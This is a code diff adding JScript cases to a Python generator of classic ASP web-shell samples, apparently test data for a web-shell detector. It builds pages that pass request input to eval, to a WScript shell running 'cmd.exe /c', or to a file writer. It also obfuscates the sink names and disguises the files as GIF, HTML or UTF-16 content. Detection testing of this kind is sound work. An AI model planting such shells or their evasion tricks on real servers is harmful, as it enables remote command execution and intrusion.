@@ -274,6 +274,62 @@ def decoded_execute_cases() -> Iterator[Case]:
         yield Case("asp.execute-decoded", f"decoder=base64 wrapper={wrapper}", "asp", file_name, content)
 
 
+JS_INPUTS: dict[str, Callable[[str], tuple[list[str], str]]] = {
+    "form": lambda n: ([], f"{REQ}.Form({n}) + ''"),
+    "item": lambda n: ([], f"{REQ}.Item({n}) + ''"),
+    "querystring": lambda n: ([], f"String({REQ}.QueryString({n}))"),
+    "variable": lambda n: ([f"var v = String({REQ}.Form({n}));"], "v"),
+    "session": lambda n: ([f'Session("k") = String({REQ}.Form({n}));'], 'String(Session("k"))'),
+}
+JS_NAMES: dict[str, Callable[[str], str]] = {
+    "none": lambda s: f'"{s}"',
+    "split": lambda s: f'"{s[:2]}" + "{s[2:]}"',
+    "chr": lambda s: "String.fromCharCode(" + ", ".join(str(ord(c)) for c in s) + ")",
+    "reverse": lambda s: f'"{s[::-1]}".split("").reverse().join("")',
+    "comments": lambda s: f'/* p */ "{s}" /* q */',
+}
+JS_SINKS: dict[str, tuple[str, Callable[[str], list[str]]]] = {
+    "eval": ("asp.execute", lambda e: [f"Response.Write({t('ev', 'al')}({e}));"]),
+    "wscript-exec": (
+        "asp.shell-object",
+        lambda e: [
+            f'var sh = Server.CreateObject("{WSH}");',
+            f'Response.Write(sh.{t("Ex", "ec")}("cmd.exe /c " + {e}).StdOut.ReadAll());',
+        ],
+    ),
+    "fso-writer": (
+        "asp.uploader",
+        lambda e: [
+            f'var fs = new ActiveXObject("{t("Scripting.File", "SystemObject")}");',
+            f'fs.{t("Create", "TextFile")}(Server.MapPath({e}), true).Write({REQ}.Form("body"));',
+        ],
+    ),
+}
+
+
+def jscript_cases() -> Iterator[Case]:
+    """Classic ASP pages in JScript (Language="JScript"): the same sinks with JavaScript syntax."""
+    k = 0
+    for input_name, input_fn in JS_INPUTS.items():
+        for transform, name_fn in JS_NAMES.items():
+            for sink, (technique, sink_fn) in JS_SINKS.items():
+                setup, expr = input_fn(name_fn("cmd"))
+                lines = setup + sink_fn(expr)
+                if transform == "comments":
+                    lines = [x for line in lines for x in ("// audit", line)]
+                wrapper = ("plain", "html", "gif", "utf16")[k % 4]
+                padded = k % 5 == 0
+                name, content = build(lines, "none", wrapper, padded)
+                content_text = f'{OPEN}@ Language="JScript" {CLOSE}\n'
+                if wrapper == "utf16":
+                    content = content_text.encode("utf-16") + content.decode("utf-16").encode("utf-16")[2:]
+                else:
+                    content = content_text.encode() + content
+                variant = f"language=JScript input={input_name} sink={sink} transform={transform} wrapper={wrapper}"
+                yield Case(technique, variant, "asp", name, content)
+                k += 1
+
+
 NEAR_MISSES: dict[str, str] = {
     "conn-execute": 'Set rs = conn.Execute("SELECT * FROM news WHERE id=" & CLng(REQ("id")))\n'
     'Response.Write rs("title")',
@@ -350,4 +406,5 @@ def cases() -> Iterator[Case]:
             yield make(i, sinks[k % len(sinks)], tr, WRAPPERS[(k + 3) % len(WRAPPERS)], k % 3 == 0)
             k += 1
     yield from decoded_execute_cases()
+    yield from jscript_cases()
     yield from near_misses()
